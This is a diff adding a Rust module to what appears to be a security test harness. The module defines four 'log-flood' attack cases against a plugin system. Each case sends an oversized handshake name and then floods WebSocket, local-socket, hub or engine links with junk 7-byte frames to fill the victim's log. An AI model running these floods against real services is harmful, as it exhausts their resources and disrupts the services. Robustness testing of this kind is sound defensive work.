@@ -1,0 +1,101 @@
+//! Peers that write the victim's log.
+
+use std::time::Duration;
+
+use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+use tokio::time::{Instant, timeout};
+
+use super::hub::register;
+use super::raw::{self, Socket, filler};
+use super::verdict::Side::Peer;
+use super::victim::Kind::{Engine, Hub, Local, Ws};
+use super::{Attack, Case, Result, Target, text};
+
+pub(super) const CASES: &[Case] = &[
+    Case::new("log-flood-ws", Ws, Peer, 0, of_websocket)
+        .about("frames of 7 bytes that are not messages, after a handshake that names the plugin with 1 MB"),
+    Case::new("log-flood-local", Local, Peer, 0, of_local).about("the same over a local socket"),
+    Case::new("log-flood-hub", Hub, Peer, 0, of_hub).about("frames of 7 bytes by a service of a hub"),
+    Case::new("log-flood-engine", Engine, Peer, 0, of_engine).about("frames of 7 bytes by a plugin"),
+];
+
+/// Not a message.
+const JUNK: &str = "notjson";
+/// The frames of one write.
+const BATCH: usize = 64;
+
+/// The lengths of the plugin's name: the second for a victim that does not take the first.
+const NAMES: [usize; 2] = [1 << 20, 32 << 10];
+/// The time within which the victim has to answer the handshake.
+const ANSWERED: Duration = Duration::from_secs(1);
+
+/// A handshake that gives the plugin a name of that length.
+fn handshake(length: usize) -> String {
+    let name = filler(0, length);
+    format!(r#"{{"action":"request","id":0,"name":"x","key":"handshake","payload":["{name}"]}}"#)
+}
+
+/// Sends junk as the link's text frames until the time is up.
+async fn flood(mut link: Socket, target: Target, frame: Vec<u8>) -> Result<super::Held> {
+    let batch = frame.repeat(BATCH);
+    while Instant::now() < target.until {
+        link.write(&batch).await?;
+        target.count_all(BATCH);
+    }
+    Ok(Box::new(link))
+}
+
+fn of_websocket(target: Target) -> Attack {
+    Box::pin(async move {
+        for length in NAMES {
+            let mut link = Socket::dial(&target.url).await?;
+            let answered = async {
+                link.send(handshake(length)).await?;
+                while !link.receive().await?.contains("response") {}
+                Ok::<_, String>(())
+            };
+            if let Ok(Ok(())) = timeout(ANSWERED, answered).await {
+                return flood(link, target, raw::masked_frame(JUNK)).await;
+            }
+        }
+        Err("no handshake was answered".to_owned())
+    })
+}
+
+fn of_hub(target: Target) -> Attack {
+    Box::pin(async move {
+        let link = register(&target.url, "Flood", &[]).await?;
+        flood(link, target, raw::masked_frame(JUNK)).await
+    })
+}
+
+fn of_engine(mut target: Target) -> Attack {
+    Box::pin(async move {
+        let link = target.link()?;
+        flood(link, target, raw::unmasked_frame(JUNK)).await
+    })
+}
+
+fn of_local(target: Target) -> Attack {
+    Box::pin(async move {
+        let batch = format!("{JUNK}\n").repeat(BATCH);
+        for length in NAMES {
+            let mut stream = BufReader::new(raw::open(target.kind, &target.url).await?);
+            let answered = async {
+                stream.write_all(format!("{}\n", handshake(length)).as_bytes()).await?;
+                let mut line = String::new();
+                while !line.contains("response") && stream.read_line(&mut line).await? > 0 {}
+                Ok::<_, std::io::Error>(line.contains("response"))
+            };
+            if !matches!(timeout(ANSWERED, answered).await, Ok(Ok(true))) {
+                continue;
+            }
+            while Instant::now() < target.until {
+                stream.write_all(batch.as_bytes()).await.map_err(text)?;
+                target.count_all(BATCH);
+            }
+            return Ok(Box::new(stream) as _);
+        }
+        Err("no handshake was answered".to_owned())
+    })
+}
